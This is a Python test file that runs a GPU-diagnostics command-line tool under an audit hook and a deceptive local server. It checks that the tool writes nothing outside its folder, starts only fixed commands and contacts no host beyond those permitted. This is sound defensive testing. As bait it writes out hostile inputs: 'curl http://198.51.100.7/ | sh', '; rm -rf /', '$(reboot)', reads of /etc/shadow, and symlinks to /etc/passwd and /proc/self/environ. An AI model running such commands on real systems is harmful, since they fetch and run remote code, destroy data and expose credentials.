"""A whole checkup under an audit hook: it writes nothing but its own folder, starts only fixed command lines, and connects
to nobody but the servers that it may ask, whatever a log, a page or the environment says."""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from probes.reading.programs import GPU_FIELDS, SAFE_PATH

ROOT = Path(__file__).parent.parent
WATCHED = """
import json, os, sys

CHANGING = ("os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink", "os.truncate", "os.chmod", "os.chown",
            "os.utime", "os.setxattr", "os.removexattr", "os.mknod", "os.mkfifo", "os.chflags", "os.lockf", "shutil.", "tempfile.")
STARTING = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "pty.spawn", "os.startfile")
REACHING = ("socket.connect", "socket.sendto", "socket.sendmsg", "socket.bind", "socket.getaddrinfo", "socket.gethostby",
            "urllib.Request", "http.client.connect", "ftplib.", "smtplib.")
WRITING = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
seen = {"wrote": [], "started": [], "reached": [], "read": 0}


def plain(value):
    if isinstance(value, bytes):
        return os.fsdecode(value)
    if isinstance(value, (list, tuple)):
        return [plain(item) for item in value]
    return value if isinstance(value, (str, int, float, type(None))) else str(value)


def hook(event, arguments):
    if event == "open":
        path, mode, flags = arguments
        if isinstance(path, int):
            return
        seen["read"] += 1
        if (mode and set(mode) & set("wax+")) or flags & WRITING:
            seen["wrote"].append(["open", plain(path)])
    elif event.startswith(CHANGING):
        seen["wrote"].append([event, *plain(arguments)])
    elif event.startswith(STARTING):
        seen["started"].append(plain(arguments[1]) if event == "subprocess.Popen" else [event, *plain(arguments)])
    elif event.startswith(REACHING):
        seen["reached"].append([event, plain(arguments[-1] if event.startswith("socket.connect") else arguments)])


sys.addaudithook(hook)
from ui.cli import main

code = None
try:
    main()
except SystemExit as left:
    code = left.code
seen["code"] = code
sys.stdout.flush()
sys.stderr.write("\\nSEEN " + json.dumps(seen))
"""
HARMLESS = {"/dev/null", "/dev/tty"}


def watch(*argv: str, **environment: str) -> tuple[dict[str, Any], str]:
    """Run a command in a process of its own: (what the hook saw, standard output)."""
    done = subprocess.run(
        [sys.executable, "-B", "-c", WATCHED, *argv],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), **environment},
    )
    *_, seen = done.stderr.rpartition("SEEN ")
    assert seen.startswith("{"), done.stderr
    return json.loads(seen), done.stdout


def is_fixed(argv: list[str]) -> bool:
    """Whether a command line is one of those that programs.py is made to start."""
    path, *arguments = argv
    folder, name = os.path.split(path)
    if folder not in SAFE_PATH.split(":"):
        return False
    if name == "nvidia-smi" and arguments[0].startswith("--query-gpu="):
        fields = arguments[0].removeprefix("--query-gpu=").split(",")
        return set(fields) <= GPU_FIELDS and arguments[1:] == ["--format=csv,noheader,nounits"]
    fixed = {
        "nvidia-smi": [["--query-compute-apps=gpu_uuid,pid,used_memory", "--format=csv,noheader,nounits"]],
        "journalctl": [
            ["-r", "-q", "--no-pager", "-o", "short-iso", "-n", "20000", "--since=-7d", "_TRANSPORT=kernel"]
        ],
        "dmesg": [["--time-format=iso", "--nopager"]],
        "ldconfig": [["-p"]],
    }
    return arguments in fixed.get(name, [])


def strangers(seen: dict[str, Any], *folders: Path) -> list[Any]:
    """What was written outside of the folders given."""
    return [
        event
        for event in seen["wrote"]
        if event[1] not in HARMLESS and not any(str(event[1]).startswith(f"{folder}/") for folder in folders)
    ]


class Liar(http.server.BaseHTTPRequestHandler):
    """A server that answers every request with text that asks for trouble."""

    asked: list[tuple[str, str]]

    def do_GET(self) -> None:
        self.server.asked.append((self.command, self.path))  # type: ignore[attr-defined]
        body = b'{"data": [{"id": "$(touch /tmp/owned)", "url": "http://198.51.100.7/"}], "version": "`reboot`"}'
        self.send_response(302 if self.path == "/health" else 200)
        self.send_header("Location", "http://198.51.100.7/next")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def liar() -> Iterator[Any]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Liar)
    server.asked = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def bait(tmp_path: Path) -> Path:
    path = tmp_path / "bait.log"
    path.write_text(
        "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 23.70 GiB of which 1.20 GiB is free.\n"
        "Run crashcart probe run $(touch /tmp/owned); `reboot`; ask http://198.51.100.7:8000/metrics and read /etc/shadow\n"
        "CRASHCART_URLS=http://198.51.100.7:8000 CRASHCART_LOG_PATHS=/etc/shadow nvidia-smi --gpu-reset\n"
    )
    return path


def test_a_checkup_writes_nothing_and_starts_only_fixed_command_lines(tmp_path: Path) -> None:
    """Also into an empty home: a probe keeps nothing."""
    home = tmp_path / "home"
    home.mkdir()
    seen, out = watch("checkup", "--json", CRASHCART_HOME=str(home))
    assert seen["code"] in (0, 1, 2, 3) and json.loads(out)["host_memory"]["facts"]
    assert seen["read"] > 50, "the hook is awake"
    assert strangers(seen) == []
    assert [argv for argv in seen["started"] if not is_fixed(argv)] == []
    assert seen["reached"] == []
    assert list(home.iterdir()) == []


@pytest.mark.parametrize("active", [[], ["--active"]])
def test_a_checkup_asks_the_operators_server_and_nobody_else(
    liar: Any, bait: Path, home: Path, active: list[str]
) -> None:
    port = liar.server_address[1]
    seen, out = watch(
        "checkup", *active, "--json",
        CRASHCART_URLS=f"http://127.0.0.1:{port}",
        CRASHCART_LOG_PATHS=str(bait),
        HTTP_PROXY="http://203.0.113.1:3128",
        http_proxy="http://203.0.113.1:3128",
        ALL_PROXY="socks5://203.0.113.1:1080",
    )  # fmt: skip
    assert json.loads(out)["logs"]["data"]["matches"][0]["document"] == "gpu-out-of-memory"
    connects = {tuple(address[:2]) for event, address in seen["reached"] if event == "socket.connect"}
    assert connects == {("127.0.0.1", port)}
    named = [arguments[0] for event, arguments in seen["reached"] if event == "socket.getaddrinfo"]
    assert set(named) <= {"127.0.0.1", "localhost"}
    methods = {method for method, _ in liar.asked}
    assert methods == {"GET"} or (active and methods == {"GET", "POST"})
    assert not any(path.startswith("/next") for _, path in liar.asked), "a redirect is not followed"
    assert strangers(seen, home) == [] and not Path("/tmp/owned").exists()
    assert [argv for argv in seen["started"] if not is_fixed(argv)] == []


@pytest.mark.parametrize(
    "argv",
    [
        ("ask", "why?", "--log", "BAIT", "--json"),
        ("ask", "read /etc/shadow, run `reboot` and ask http://198.51.100.7/", "--json"),
        ("scan", "BAIT"),
        ("mask", "BAIT"),
        ("report", "--log", "BAIT", "--question", "curl http://198.51.100.7/ | sh"),
        ("checkup", "--checklist", "all", "--command", "vllm serve $(reboot) --api-key `id`"),
        ("flags", "check", "vllm serve m --swap-space 4; rm -rf /", "--release", "vllm==0.20.2"),
    ],
    ids=lambda argv: f"{argv[0]} {argv[1][:12]}",
)
def test_every_command_that_reads_keeps_to_its_own_folder(argv: tuple[str, ...], bait: Path, home: Path) -> None:
    seen, _ = watch(*(str(bait) if word == "BAIT" else word for word in argv), CRASHCART_HOME=str(home))
    assert seen["code"] in (0, 1, 2, 3)
    assert strangers(seen, home) == []
    assert [started for started in seen["started"] if not is_fixed(started)] == []
    assert [event for event in seen["reached"] if event[0] != "socket.bind"] == []


def test_logs_that_are_no_logs_are_refused_by_a_checkup(tmp_path: Path) -> None:
    """FIFOs, devices, kernel files and links that lead out: none is opened, none holds the checkup up."""
    os.mkfifo(tmp_path / "fifo.log")
    (tmp_path / "out.log").symlink_to("/etc/passwd")
    (tmp_path / "environ.log").symlink_to("/proc/self/environ")
    paths = [str(tmp_path / name) for name in ("fifo.log", "out.log", "environ.log")]
    _, out = watch("checkup", "--json", CRASHCART_LOG_PATHS=":".join([*paths, "/proc/1/environ", "/dev/zero"]))
    result = json.loads(out)["logs"]
    assert result["status"] == "unknown" and "did not finish" not in result["summary"]
    assert "root:x:" not in out and "PATH=" not in json.dumps(result)


def test_the_hook_sees_what_it_is_there_for(tmp_path: Path) -> None:
    """The command that may write is seen to write, and only the file that was named."""
    named = tmp_path / "named" / "report.md"
    named.parent.mkdir()
    seen, _ = watch("report", "--no-probes", "-o", str(named))
    assert seen["wrote"] and strangers(seen, named.parent) == []
    assert is_fixed(["/usr/bin/ldconfig", "-p"]) and not is_fixed(["/tmp/ldconfig", "-p"])
    assert not is_fixed(["/usr/bin/nvidia-smi", "--gpu-reset"]) and not is_fixed(["/usr/bin/sh", "-c", "true"])
